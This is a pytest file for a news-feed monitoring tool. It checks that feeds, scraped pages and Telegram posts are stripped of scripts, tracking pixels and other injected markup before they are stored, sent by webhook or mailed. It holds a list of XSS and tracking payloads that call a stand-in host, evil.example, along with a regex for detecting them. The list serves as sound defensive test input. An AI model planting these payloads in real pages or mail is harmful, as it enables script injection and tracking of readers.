"""Scripts, pixels and traps in every field of every kind of source: what is stored, mailed and posted is words."""

from __future__ import annotations

import email
import email.policy
import json
import re
import sqlite3
from email.message import EmailMessage
from html import escape
from html.parser import HTMLParser
from pathlib import Path

import pytest

from newsroom import Newsroom

STORY = "Two drones hit Ain al-Asad air base in western Iraq"
#: every word that must reach nobody; `evil.example` is whoever wants to know who read it
TRAPS = (
    "<script>EVILSCRIPT()</script>", "<script src='https://evil.example/s.js'></script>",
    "<style>@import 'https://evil.example/c.css';</style>",
    "<img src='https://evil.example/pixel.gif?u=1' width=1 height=1>", "<img src=x onerror='EVILHANDLER()'>",
    "<iframe src='https://evil.example/f'>EVILFRAME</iframe>",
    "<object data='https://evil.example/o'></object>", "<embed src='https://evil.example/e'>",
    "<link rel=stylesheet href='https://evil.example/l.css'>", "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href='https://evil.example/'>", "<form action='https://evil.example/'><input name=q></form>",
    "<svg onload='EVILHANDLER()'><script>EVILSCRIPT()</script></svg>", "<a href='javascript:EVILSCRIPT()'>here</a>",
    "<a ping='https://evil.example/' href='data:text/html,EVIL'>there</a>",
    "<video poster='https://evil.example/p.jpg'></video>",
    "<div style='background:url(https://evil.example/b.png)'>", "<!--EVILCOMMENT-->",
    "<math><mtext><style><img src=x onerror=EVILHANDLER()></style></mtext></math>", "<noscript><img src='https://evil.example/n.gif'></noscript>",
    "<template><img src='https://evil.example/t.gif'></template>", "<p hidden onclick=EVILHANDLER()>",
)  # fmt: skip
MARKUP = "".join(TRAPS)
GUID = "1<script>EVILSCRIPT()</script>"
FORBIDDEN = re.compile(r"(?i)evil|onerror|onload|onclick|javascript:|<script|<img|<iframe|<svg|<style|@import")
PAGE = "https://news.example/asad"


def cdata(text: str) -> str:
    return f"<![CDATA[{text}]]>"


def rss() -> tuple[str, str]:
    bad = cdata(MARKUP)
    fields = "".join(
        f"<{name}>{bad}</{name}>" for name in ("author", "category", "comments", "dc:creator", "media:title", "x:y")
    )
    return "text/xml", (
        "<rss version='2.0' xmlns:dc='http://purl.org/dc/elements/1.1/' xmlns:media='http://search.yahoo.com/mrss/' "
        f"xmlns:x='u' xmlns:content='http://purl.org/rss/1.0/modules/content/'><channel><title>{bad}</title>"
        f"<description>{bad}</description><item><title>{cdata(MARKUP + STORY + MARKUP)}</title><link>{PAGE}</link>"
        f"<guid isPermaLink='false'>{cdata(GUID)}</guid><description>{cdata(MARKUP + STORY + MARKUP)}</description>"
        f"<content:encoded>{cdata(MARKUP + '<p>' + STORY + '.</p>' + MARKUP)}</content:encoded>{fields}"
        f"<enclosure url='https://evil.example/e.mp3' type='audio/mpeg' length='1'/></item></channel></rss>"
    )


def atom() -> tuple[str, str]:
    bad = escape(MARKUP)
    return "application/atom+xml", (
        f"<feed xmlns='http://www.w3.org/2005/Atom'><title type='html'>{bad}</title><author><name>{bad}</name></author>"
        f"<entry><title type='html'>{bad}{STORY}{bad}</title><id>{escape(GUID)}</id><link href='{PAGE}'/>"
        f"<link rel='enclosure' href='https://evil.example/e'/><summary type='html'>{bad}{STORY}{bad}</summary>"
        f"<content type='html'>{bad}{STORY}.{bad}</content><category term='{bad}'/></entry></feed>"
    )


def jsonfeed() -> tuple[str, str]:
    item = {
        "id": GUID, "url": PAGE, "title": MARKUP + STORY + MARKUP, "summary": MARKUP + STORY + MARKUP,
        "content_html": MARKUP + STORY + "." + MARKUP, "image": "https://evil.example/i.png",
        "authors": [{"name": MARKUP, "avatar": "https://evil.example/a.png"}], "tags": [MARKUP],
    }  # fmt: skip
    feed = {"version": "https://jsonfeed.org/version/1.1", "title": MARKUP, "description": MARKUP, "items": [item]}
    return "application/feed+json", json.dumps(feed)


def sitemap() -> tuple[str, str]:
    return "application/xml", (
        "<urlset xmlns='http://www.sitemaps.org/schemas/sitemap/0.9' "
        "xmlns:news='http://www.google.com/schemas/sitemap-news/0.9' "
        "xmlns:image='http://www.google.com/schemas/sitemap-image/1.1'>"
        f"<url><loc>{PAGE}</loc><image:image><image:loc>https://evil.example/i.png</image:loc></image:image><news:news>"
        f"<news:publication><news:name>{escape(MARKUP)}</news:name></news:publication>"
        f"<news:keywords>{escape(MARKUP)}</news:keywords><news:title>{escape(MARKUP + STORY + MARKUP)}</news:title>"
        "</news:news></url></urlset>"
    )


def telegram() -> tuple[str, str]:
    return "text/html", (
        f"<!doctype html><html><head><title>x</title></head><body>{MARKUP}"
        f"<div class='tgme_channel_info'><div class='tgme_channel_info_header_title'>{MARKUP}</div></div>"
        f"<div class='tgme_widget_message' data-post='channel/7'><div class='tgme_widget_message_author'>{MARKUP}</div>"
        f"<div class='tgme_widget_message_text'>{STORY}<br>{MARKUP}</div></div></div></div>"
        f"<a class='tgme_widget_message_photo_wrap' style=\"background-image:url('https://evil.example/p.jpg')\"></a>"
        "</body></html>"
    )


def page() -> tuple[str, str]:
    return "text/html", (
        f"<!doctype html><html><head><title>x</title></head><body>{MARKUP.replace('<base', '<x-base')}</div></p>"
        f"<article><h2>{STORY}<img src='https://evil.example/h.gif' onerror='EVILHANDLER()'></h2>"
        f"<a href='{PAGE}'>more</a>"
        f"<p>{STORY}{MARKUP.replace('<base', '<x-base')}</div></p></article></body></html>"
    )


KINDS = {"rss": rss, "atom": atom, "json": jsonfeed, "sitemap": sitemap, "telegram": telegram, "page": page}


class Tags(HTMLParser):
    """The tags of a mail, with the attributes that make a reader ask somebody for something."""

    def __init__(self) -> None:
        super().__init__()
        self.names: set[str] = set()
        self.asked: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.names.add(tag)
        self.asked += [
            value or "" for name, value in attrs if name in ("src", "href", "background", "action", "poster")
        ]
        assert not any(name.startswith("on") for name, _ in attrs)


@pytest.mark.slow(8)
@pytest.mark.parametrize("kind", KINDS)
def test_nothing_but_words_is_kept_and_told(tmp_path: Path, kind: str) -> None:
    content_type, body = KINDS[kind]()
    with Newsroom(tmp_path) as room:
        options = {"select": {"item": "article", "title": "h2", "summary": "p"}} if kind == "page" else {}
        room.feed("wire", **options)
        room.server.put("/wire.xml", body, headers={"Content-Type": content_type})
        (report,) = room.poll(alert_backlog=True)
        assert (report.result, report.entries) == ("fetched", 1), report.detail
        hook = room.hook.wait_for(1)[0]
        mail = room.mail.wait_for(1)[0]
        link = "https://t.me/channel/7" if kind == "telegram" else PAGE
        shown = [room.call(*command).stdout for command in (["incidents", "--json"], ["explain", link])]
    # what a publisher counts by is kept as it is, and shown to nobody
    stored = _stored(tmp_path / "basewatch.db").replace(GUID, "GUID")
    assert STORY in stored
    for where, text in [("database", stored), ("webhook", json.dumps(hook.payload)), ("commands", "".join(shown))]:
        assert not (found := FORBIDDEN.search(text)), (
            f"{where}: …{text[max(0, found.start() - 80) : found.end() + 80]}…"
        )
    _check_mail(mail.raw)


def _stored(database: Path) -> str:
    connection = sqlite3.connect(database)
    dump = "\n".join(connection.iterdump())
    connection.close()
    return dump


def _check_mail(raw: bytes) -> None:
    message = email.message_from_bytes(raw, policy=email.policy.default)
    assert isinstance(message, EmailMessage)
    parts = {part.get_content_type(): part.get_content() for part in message.walk() if not part.is_multipart()}
    assert STORY in str(message["subject"]) + "".join(text for text in parts.values() if isinstance(text, str))
    assert set(parts) <= {"text/plain", "text/html", "image/png"}
    for text in (str(message["subject"]), *parts.values()):
        assert not (isinstance(text, str) and FORBIDDEN.search(re.sub(r"</?(?:style|img)[^>]*>", "", text)))
    if "text/html" in parts:
        tags = Tags()
        tags.feed(parts["text/html"])
        assert not tags.names & {"script", "iframe", "object", "embed", "form", "link", "base", "meta-refresh", "svg"}
        assert all(
            value.startswith(("https://news.example/", "https://t.me/", "cid:", "mailto:")) for value in tags.asked
        )
